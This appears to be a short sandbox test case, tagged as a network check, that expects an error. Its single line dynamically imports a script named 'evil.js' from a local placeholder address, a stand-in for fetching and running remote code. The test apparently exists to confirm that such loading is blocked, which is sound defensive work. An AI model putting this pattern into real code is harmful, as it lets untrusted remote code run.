// category: network
// expect: error RUNTIME_ERROR SYNTAX_ERROR
const m = await import("http://127.0.0.1:9/evil.js");
return typeof m;
